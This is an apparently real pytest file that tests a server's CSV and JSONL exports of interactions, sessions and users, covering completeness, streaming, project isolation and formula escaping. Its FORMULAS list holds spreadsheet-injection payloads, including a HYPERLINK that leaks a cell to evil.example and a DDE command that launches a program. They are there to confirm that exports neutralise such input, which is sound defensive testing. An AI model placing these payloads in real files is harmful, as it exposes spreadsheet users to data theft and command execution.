"""Exports: everything that matches, as files that spreadsheets and programs can trust."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from collections.abc import Iterator
from itertools import islice
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from werkzeug.test import TestResponse

from phospho_server.store import detections, feedback
from phospho_server.store.projects import create_project
from phospho_server.store.rows import NewInteraction, Project
from phospho_server.store.sqlite import SqliteStore
from tests.server.builders import HOUR_MS, NOON_MS, add, define, interaction, verdict
from tests.server.views.conftest import Visitor, text_of

# What a spreadsheet would compute; the last two are in the wide letters of Japanese keyboards.
FORMULAS = [
    "=1+1",
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff20SUM(1)",
]  # fmt: skip


def read_csv(response: TestResponse) -> list[dict[str, str]]:
    assert response.status_code == 200, text_of(response)
    # The mark of the beginning is what `utf-8-sig` takes away.
    text = response.get_data().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def read_jsonl(response: TestResponse) -> list[dict[str, Any]]:
    assert response.status_code == 200, text_of(response)
    return [json.loads(line) for line in response.get_data(as_text=True).split("\n") if line]


def many(count: int, **changes: Any) -> list[NewInteraction]:
    """Return interactions in two sessions of three, each by one of seven users."""
    return [
        interaction(
            f"t{n:04d}",
            session_id=f"s{n // 3 * 2 + n % 3 // 2:04d}",
            user_id=f"user {n % 7}",
            created_at_ms=NOON_MS + n * 1000,
            **changes,
        )
        for n in range(count)
    ]


def test_an_export_has_everything_that_matches_and_not_only_a_page(
    visitor: Visitor, store: SqliteStore, project: Project, home: str
) -> None:
    add(store, project, *many(1230))
    rows = read_csv(visitor.get(f"{home}/export/interactions"))
    assert [row["task_id"] for row in rows] == [f"t{n:04d}" for n in reversed(range(1230))]
    sessions = read_csv(visitor.get(f"{home}/export/sessions"))
    assert len(sessions) == len({row["session_id"] for row in sessions}) == 820
    assert sum(int(row["interactions"]) for row in sessions) == 1230
    users = read_jsonl(visitor.get(f"{home}/export/users?format=jsonl"))
    assert sorted(row["user_id"] for row in users) == [f"user {n}" for n in range(7)]
    assert sum(row["interactions"] for row in users) == 1230
    oldest = read_csv(visitor.get(f"{home}/export/interactions?sort=oldest&user=user+3"))
    assert [row["task_id"] for row in oldest] == [f"t{n:04d}" for n in range(3, 1230, 7)]


def test_an_export_goes_beyond_what_one_page_looks_at(
    visitor: Visitor, store: SqliteStore, project: Project, home: str
) -> None:
    plain = many(2500, version_id="2")
    rare = interaction("rare", session_id="rare", version_id="2", flag="failure", user_id="u")
    happy = [interaction(f"h{n}", session_id=f"h{n}", flag="failure") for n in range(2500)]
    add(store, project, rare, *plain, *happy)
    for page, name in (("interactions", "task_id"), ("sessions", "session_id")):
        found = read_csv(visitor.get(f"{home}/export/{page}?version=2&flag=failure"))
        assert [row[name] for row in found] == ["rare"]


@pytest.fixture
def told(store: SqliteStore, project: Project) -> None:
    """One interaction with all there can be, and an event of it."""
    new = interaction(
        "t1",
        user_id="ana",
        version_id="1.2",
        input='A "refund", please\nnow',
        output="Là 日本 😀",
        flag="failure",
        created_at_ms=NOON_MS + 7,
        metadata=json.dumps({"plan": "pro", "usage": {"total_tokens": 12}}),
    )
    add(store, project, new, interaction("t2", session_id="s2", output=None))
    event = define(store, project, name="refund")
    found = verdict(store, project, new, detected=True, score=0.87)
    store.write(lambda db: detections.record(db, project.id, event, [found]))
    store.write(
        lambda db: feedback.add_feedback(
            db, project.id, "t1", flag=None, notes="=too slow", source="user"
        )
    )


@pytest.mark.usefixtures("told")
def test_a_row_of_jsonl_has_everything_as_it_is(visitor: Visitor, home: str) -> None:
    response = visitor.get(f"{home}/export/interactions?format=jsonl&sort=oldest")
    assert response.mimetype == "application/jsonl"
    assert 'filename="interactions.jsonl"' in response.headers["Content-Disposition"]
    first, second = read_jsonl(response)
    assert first == {
        "task_id": "t1",
        "session_id": "s1",
        "created_at": "2026-11-20T12:00:00.007Z",
        "user_id": "ana",
        "version_id": "1.2",
        "flag": "failure",
        "notes": "=too slow",
        "language": None,
        "sentiment": None,
        "tokens": 12,
        "events": {"refund": 0.87},
        "input": 'A "refund", please\nnow',
        "output": "Là 日本 😀",
        "metadata": {"plan": "pro", "usage": {"total_tokens": 12}},
    }
    assert (second["output"], second["events"], second["metadata"]) == (None, {}, {})


@pytest.mark.usefixtures("told")
def test_a_row_of_csv_reads_in_a_spreadsheet(visitor: Visitor, home: str) -> None:
    response = visitor.get(f"{home}/export/interactions?format=csv&sort=oldest")
    assert response.mimetype == "text/csv"
    assert 'filename="interactions.csv"' in response.headers["Content-Disposition"]
    assert response.get_data().startswith(b"\xef\xbb\xbftask_id,session_id,")
    first, second = read_csv(response)
    assert first["input"] == 'A "refund", please\nnow'
    assert first["output"] == "Là 日本 😀"
    assert first["notes"] == "'=too slow"
    assert json.loads(first["events"]) == {"refund": 0.87}
    assert json.loads(first["metadata"])["plan"] == "pro"
    assert (second["output"], second["events"], second["metadata"]) == ("", "", "")


@pytest.mark.usefixtures("told")
def test_a_session_and_a_user_have_their_sums(visitor: Visitor, home: str) -> None:
    session = read_jsonl(visitor.get(f"{home}/export/sessions?format=jsonl&user=ana"))
    assert session == [
        {
            "session_id": "s1",
            "first_at": "2026-11-20T12:00:00.007Z",
            "last_at": "2026-11-20T12:00:00.007Z",
            "interactions": 1,
            "user_id": "ana",
            "version_id": "1.2",
            "successes": 0,
            "failures": 1,
            "events": {"refund": 1},
            "first_input": session[0]["first_input"],
        }
    ]
    assert session[0]["first_input"].startswith('A "refund", please')
    assert read_jsonl(visitor.get(f"{home}/export/users?format=jsonl&q=an")) == [
        {
            "user_id": "ana",
            "first_at": "2026-11-20T12:00:00.007Z",
            "last_at": "2026-11-20T12:00:00.007Z",
            "interactions": 1,
            "sessions": 1,
            "tokens": 12,
        }
    ]


def test_no_cell_of_csv_is_a_formula(
    visitor: Visitor, store: SqliteStore, project: Project, home: str
) -> None:
    add(
        store,
        project,
        *(
            interaction(f"{f} {n}", session_id=f, user_id=f, version_id=f, input=f, output=f)
            for n, f in enumerate(FORMULAS)
        ),
    )
    for page in ("interactions", "sessions", "users"):
        rows = read_csv(visitor.get(f"{home}/export/{page}"))
        assert len(rows) == len(FORMULAS)
        for cell in (cell for row in rows for cell in row.values()):
            assert not cell.startswith(tuple(formula[0] for formula in FORMULAS))
    kept = read_jsonl(visitor.get(f"{home}/export/interactions?format=jsonl&sort=oldest"))
    assert [row["input"] for row in kept] == FORMULAS


@pytest.mark.parametrize(
    ("path", "status", "says"),
    [
        ("export/sessions?flag=furious", 422, "not a choice of “flag”"),
        ("export/sessions?event=never_defined", 422, "not a choice of “event”"),
        ("export/sessions?metadata=plan", 422, "needs a key and a value"),
        ("export/sessions?length=long", 422, "“long” is no length"),
        ("export/sessions?since=yesterday", 422, "is no day"),
        ("export/sessions?sort=best", 422, "not a choice of “sort”"),
        ("export/sessions?format=xlsx", 422, "not a choice of “format”"),
        ("export/interactions?sort=longest", 422, "not a choice of “sort”"),
        (f"export/interactions?user={'u' * 513}", 422, "has 513 characters"),
        ("export/users?sort=longest", 422, "not a choice of “sort”"),
        ("export/users?period=1y", 422, "not a choice of “period”"),
        ("export/users?length=3", 422, "“length” is no filter of users"),
        ("export/users?user=u1", 422, "“user” is no filter of users"),
        ("export/interactions?length=3", 422, "“length” is no filter of interactions"),
        ("export/sessions?evnt=refund", 422, "“evnt” is no filter"),
        ("export/sessions?%00=refund", 422, "“⟦U+0000⟧” is no filter"),
        ("export/events", 404, "no such export"),
    ],
)
def test_what_cannot_be_meant_is_refused_and_not_left_out(
    visitor: Visitor, store: SqliteStore, project: Project, home: str, path: str, status: int,
    says: str,
) -> None:  # fmt: skip
    add(store, project, interaction())
    response = visitor.get(f"{home}/{path}")
    assert response.status_code == status
    assert says in text_of(response)
    assert "Content-Disposition" not in response.headers


@pytest.mark.parametrize("page", ["interactions", "sessions", "users"])
def test_an_empty_export_has_its_columns(visitor: Visitor, home: str, page: str) -> None:
    text = visitor.get(f"{home}/export/{page}").get_data().decode("utf-8-sig")
    assert len(text.splitlines()) == 1
    assert visitor.get(f"{home}/export/{page}?format=jsonl").get_data() == b""


def test_an_export_has_nothing_of_another_project(
    visitor: Visitor, store: SqliteStore, project: Project, home: str
) -> None:
    other = store.write(lambda db: create_project(db, "other"))
    add(store, other, interaction("canary", user_id="canary", session_id="canary", input="canary"))
    add(store, project, interaction("mine", user_id="me"))
    for page in ("interactions", "sessions", "users"):
        for query in ("", "?q=canary", "?user=canary"):
            assert b"canary" not in visitor.get(f"{home}/export/{page}{query}").get_data()


def test_strangers_are_sent_to_sign_in(
    stranger: Visitor, store: SqliteStore, project: Project, home: str
) -> None:
    add(store, project, interaction())
    response = stranger.get(f"{home}/export/interactions")
    assert response.status_code == 302
    assert "/login" in response.headers["Location"]


def pieces_of(response: TestResponse) -> Iterator[bytes]:
    return iter(response.iter_encoded())


def test_an_export_is_sent_while_it_is_read(
    visitor: Visitor, store: SqliteStore, project: Project, home: str
) -> None:
    add(store, project, *many(2000, output="x" * 5_000))
    tracemalloc.start()
    try:
        response = visitor.get(f"{home}/export/interactions", buffered=False)
        assert response.is_streamed
        pieces = pieces_of(response)
        beginning = b"".join(islice(pieces, 3))
        # The database is free meanwhile.
        late = interaction("late", created_at_ms=NOON_MS - HOUR_MS, output="after the beginning")
        add(store, project, late)
        size = len(beginning) + sum(map(len, pieces))
        response.close()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert b"t1999" in beginning
    assert size > 10_000_000
    assert peak < size / 2


def test_who_goes_away_in_the_middle_hurts_nobody(
    visitor: Visitor, store: SqliteStore, project: Project, home: str
) -> None:
    add(store, project, *many(600))
    for _ in range(20):
        response = visitor.get(f"{home}/export/interactions", buffered=False)
        next(pieces_of(response))
        response.close()
    assert len(read_csv(visitor.get(f"{home}/export/interactions"))) == 600


# What arrives has no NUL and no lone surrogate: see `clean_text`.
texts = st.text(
    st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1, max_size=60
)


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=texts)
@example(text='"\r\n",\n\'"')
@example(text="\u2028\u2029\x85\x0b\x0c\x1c")
@example(text="\ufeff=1")
@example(text="\x01\x1a\x1b[31m")
@example(text="'=1")
def test_any_text_is_read_back_by_whoever_reads_csv_or_jsonl(
    visitor: Visitor, store: SqliteStore, text: str
) -> None:
    project = store.write(lambda db: create_project(db, "texts"))
    add(store, project, interaction("t", input=text, output=text, user_id=text, session_id=text))
    home = f"/projects/{project.id}/export"
    (row,) = read_csv(visitor.get(f"{home}/interactions?format=csv"))
    for name in ("input", "output", "user_id", "session_id"):
        assert row[name] in {text, "'" + text}
        assert (row[name] == text) == (text[0] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
    (kept,) = read_jsonl(visitor.get(f"{home}/interactions?format=jsonl"))
    assert (kept["input"], kept["user_id"]) == (text, text)
    (user,) = read_jsonl(visitor.get(f"{home}/users?format=jsonl"))
    assert user["user_id"] == text
